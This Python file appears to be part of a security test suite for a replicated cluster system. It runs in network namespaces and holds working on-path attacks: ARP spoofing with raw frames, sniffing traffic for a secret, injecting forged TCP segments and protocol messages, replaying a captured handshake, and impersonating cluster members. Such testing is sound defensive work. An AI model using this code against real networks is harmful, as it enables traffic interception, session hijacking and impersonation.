# SPDX-License-Identifier: GPL-3.0-or-later
"""A host on the way between members: it tells them by ARP that it is the other one, and passes on what it gets. It can read, change,
hold back and send anything, but knows no secret."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

from plover.protocol import codec, wire

from ..chaos import members
from ..hosts import Host, ip, netns_name
from ..netns import inside
from . import frames, speak
from .outcome import COPIES, DAEMONS, Attack, Outcome, held, register, won
from .scene import NotPossible, Scene, packets
from .stage import EVIL, sysctl

ATTACKS: dict[str, Attack] = {}
attack = register(ATTACKS, "on_path")
CARD, FT = "eth0", "ft0"
SPOOF_EVERY_S, SPOOFS_AT_END = 0.3, 5
READ_S, READ_BYTES_MIN = 6.0, 4096
AIM_S, EFFECT_S, GREETING_S, POSE_S = 10.0, 5.0, 12.0, 10.0
TRIES, SHORT = 5, 200  # bytes: heartbeats are, and with or without encryption
RST, SYN, ACK = 0x04, 0x02, 0x10


def _send(frame: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((CARD, 0))
        sock.send(frame)


class OnPath:
    """Between two hosts: each takes our card for the other's. ``macs``: their true ones."""

    def __init__(self, scene: Scene, one: str, other: str) -> None:
        self.mine = scene.mac(EVIL, CARD)
        self.macs = {host: scene.mac(netns_name(host), FT) for host in (one, other)}
        self.addresses = {host: Host(host).replication_address for host in (one, other)}
        self._pairs = ((one, other), (other, one))

    def tell(self, true: bool = False) -> None:
        for victim, about in self._pairs:
            mac = self.macs[about] if true else self.mine
            told, to = (mac, self.addresses[about]), (self.macs[victim], self.addresses[victim])
            for operation in (frames.ARP_REPLY, frames.ARP_REQUEST):
                frame = frames.arp(self.mine, self.macs[victim], operation, told, to)
                inside(EVIL, lambda frame=frame: _send(frame))

    def inject(self, packet: bytes, to: str) -> None:
        """An IP packet, straight to that host."""
        frame = frames.ethernet(self.mine, self.macs[to], frames.IPV4, packet)
        inside(EVIL, lambda: _send(frame))


@contextlib.contextmanager
def between(scene: Scene, one: str, other: str) -> Iterator[OnPath]:
    """Keeps both hosts deceived, and tells them the truth at the end."""
    spoofer, ending = OnPath(scene, one, other), threading.Event()

    def deceive() -> None:
        while not ending.is_set():
            spoofer.tell()
            ending.wait(SPOOF_EVERY_S)

    thread = threading.Thread(target=deceive, daemon=True)
    thread.start()
    try:
        yield spoofer
    finally:
        ending.set()
        thread.join()
        for _ in range(SPOOFS_AT_END):
            spoofer.tell(true=True)
            time.sleep(0.1)


def _segments(seen: Callable[[float], Iterator[bytes]], seconds: float, mac: str) -> Iterator[frames.Segment]:
    """TCP segments that were sent to our card though not to us."""
    for frame in seen(seconds):
        if frame[:6] == frames.mac_bytes(mac):
            with contextlib.suppress(ValueError):
                yield frames.Segment(frame)


@attack()
def reads_guest_memory(scene: Scene) -> Outcome:
    """Reads along between leader and secondary while a client writes a secret into the VM. Succeeds if the secret is in the clear in
    what passes by."""
    with between(scene, scene.leader, scene.secondary) as spoofer, packets(EVIL, [CARD]) as seen:
        time.sleep(1.0)
        thread = threading.Thread(target=scene.keep_memory_mark)
        thread.start()
        streams: dict[tuple[str, int, str, int], bytearray] = {}
        for segment in _segments(seen, READ_S, spoofer.mine):
            streams.setdefault(segment.flow, bytearray()).extend(segment.payload)
        thread.join()
    passed = sum(map(len, streams.values()))
    if passed < READ_BYTES_MIN:
        raise NotPossible(f"only {passed} bytes came by: ARP spoofing does not work here")
    if any(scene.loot["memory"] in stream for stream in streams.values()):
        return won(f"found the secret in the clear, in {passed >> 10} KiB that passed by")
    return held(f"{passed >> 10} KiB passed by, the secret not in the clear")


@attack(COPIES)
def injects_a_message(scene: Scene) -> Outcome:
    """Continues the leader's streams to the secondary with a message of its own: take the lead. Succeeds if the secondary does, or
    anything else changes the view. (That links break, and the secondary is filled again, no encryption can prevent.)"""
    config, injected = scene.config(scene.leader), Counter[tuple[str, int, str, int]]()
    tag = codec.cluster_tag(config.cluster_id)
    words = b"".join(bytes(part) for part in codec.encode(wire.TransferLeadership(scene.before.view), tag))
    with between(scene, scene.leader, scene.secondary) as spoofer, packets(EVIL, [CARD]) as seen:
        for segment in _segments(seen, AIM_S, spoofer.mine):
            ours = segment.src == spoofer.addresses[scene.leader] and config.port in (segment.sport, segment.dport)
            if ours and 0 < len(segment.payload) < SHORT and injected[segment.flow] < TRIES:
                spoofer.inject(segment.following(words), scene.secondary)
                injected[segment.flow] += 1
    if not injected:
        raise NotPossible("nothing of the leader came by: ARP spoofing does not work here")
    if members.wait(lambda found: any(s.get("view", 0) > scene.before.view for s in found.values()), EFFECT_S):
        return won("an injected message made the secondary take the lead")
    return held(f"{sum(injected.values())} injected messages on {len(injected)} connections did nothing")


@attack()
def replays_a_greeting(scene: Scene) -> Outcome:
    """Breaks the link between secondary and witness, records how it is made anew, and says the same again in the secondary's name and
    from its address. Succeeds if the witness lets it in."""
    with between(scene, scene.secondary, scene.witness) as spoofer, packets(EVIL, [CARD]) as seen:
        words, port = _record_greeting(scene, spoofer, seen)
    if not words:
        raise NotPossible("no greeting came by: ARP spoofing does not work here")
    with _secondary_to_witness(scene, port) as voice:
        voice.replay(words)
        let_in = voice.is_let_in()
    return won("the witness took a recording for the secondary") if let_in else held(f"{len(words)} recorded bytes open no door")


@contextlib.contextmanager
def _secondary_to_witness(scene: Scene, port: int) -> Iterator[speak.Voice]:
    """A connection to the witness from the secondary's address, whom we have no secret of. So no packet filter stops it."""
    kit = speak.nothing(speak.as_member(scene.config(scene.witness), scene.secondary))
    with _address_of(scene.secondary), between(scene, scene.secondary, scene.witness):
        time.sleep(0.5)
        try:
            sock = scene.connect(EVIL, Host(scene.witness).replication_address, port, Host(scene.secondary).replication_address)
        except OSError as error:
            raise NotPossible(f"no connection from the secondary's address: {error}") from error
        with speak.Voice(sock, kit, wire.CONTROL) as voice:
            yield voice


@attack()
def speaks_without_a_secret(scene: Scene) -> Outcome:
    """Takes the secondary's address, says Hello to the witness in its name, and proves nothing. Succeeds if it is let in."""
    with _secondary_to_witness(scene, scene.config(scene.witness).port) as voice:
        voice.greet(scene.witness)
        let_in = voice.is_let_in()
    return won("the witness takes it for the secondary") if let_in else held("the witness demands more than an address")


@attack(DAEMONS)
def speaks_to_a_member_without_secrets(scene: Scene) -> Outcome:
    """The same while an operator has lost the witness's secrets, its certificate included, and started it anew. Succeeds if it is let
    in. What was lost is put back."""
    host, config = scene.witness, scene.config(scene.witness)
    lost = [str(config.secret_path), getattr(config, "tls_folder", "") or f"/etc/plover/{config.name}/tls"]
    unit = f"plover-witness@{config.name}"
    move = "; ".join(f"test ! -e {path} || mv {path} {path}.aside" for path in lost)
    scene.root(host, f"{move}; systemctl restart --no-block {unit}; sleep 2")
    try:
        with _secondary_to_witness(scene, config.port) as voice:
            voice.greet(host)
            let_in = voice.is_let_in()
    except NotPossible as closed:
        if not isinstance(closed.__cause__, ConnectionRefusedError):
            raise
        return held("a witness without secrets does not listen")
    finally:
        back = "; ".join(f"test ! -e {path}.aside || mv {path}.aside {path}" for path in lost)
        scene.root(host, f"{back}; systemctl reset-failed {unit}; systemctl restart --no-block {unit}")
    return won("a member without secrets lets anybody in") if let_in else held("a member without secrets lets nobody in")


def _record_greeting(scene: Scene, spoofer: OnPath, seen: Callable[[float], Iterator[bytes]]) -> tuple[bytes, int]:
    """All that the member that dials says at the beginning of a new connection, and the port. These two have nothing to say while all
    is well: what is answered by a reset is an acknowledgement of a keepalive, one a second."""
    secondary, flow, words, broken = spoofer.addresses[scene.secondary], None, bytearray(), 0
    for segment in _segments(seen, GREETING_S, spoofer.mine):
        if flow is None and segment.flags & SYN and not segment.flags & ACK and segment.src == secondary:
            flow = segment.flow
        elif segment.flow == flow:
            words += segment.payload
        elif flow is None and segment.flags & ACK and segment.src == secondary and broken < TRIES:
            spoofer.inject(segment.following(b"", RST | ACK), scene.witness)
            broken += 1
    return bytes(words), flow[3] if flow else 0


@contextlib.contextmanager
def _address_of(host: str) -> Iterator[None]:
    """Our machine has that host's address as well, and says so only to those whom it deceives."""
    address = Host(host).replication_address
    sysctl(f"conf/{CARD}/arp_ignore", 8)
    ip(EVIL, f"addr add {address}/32 dev {CARD}")
    try:
        yield
    finally:
        ip(EVIL, f"addr del {address}/32 dev {CARD}")
        sysctl(f"conf/{CARD}/arp_ignore", 0)


@attack()
def poses_as_the_witness(scene: Scene) -> Outcome:
    """Takes the witness's address, and answers the replicas that dial it with a Hello that demands no proof, no certificate and no
    encryption. Succeeds if a replica tells it anything but its own Hello."""
    kit = speak.nothing(scene.config(scene.witness))
    with _address_of(scene.witness), contextlib.closing(_listener(kit)) as listener:
        with between(scene, scene.leader, scene.witness), between(scene, scene.secondary, scene.witness):
            return _answer(scene, kit, listener)


def _listener(kit: speak.Kit) -> socket.socket:
    def make() -> socket.socket:
        sock = socket.create_server((kit.config.members[kit.config.member]["address"], kit.config.port))
        sock.settimeout(1.0)
        return sock

    return inside(EVIL, make)


def _answer(scene: Scene, kit: speak.Kit, listener: socket.socket) -> Outcome:
    dialled, end = 0, time.monotonic() + POSE_S
    while time.monotonic() < end:
        try:
            sock, address = listener.accept()
        except TimeoutError:
            continue
        dialled += 1
        host = next((host for host in members.REPLICAS if Host(host).replication_address == address[0]), "")
        with speak.Voice(sock, kit, wire.CONTROL) as voice:
            if host:
                voice.greet(host, first=False)
                voice.hear(1.0)
                if voice.let_in:
                    return won(f"{host} takes it for the witness")
    if not dialled:
        raise NotPossible("nobody dialled: ARP spoofing does not work here")
    return held(f"{dialled} connections, each given up by the replica")
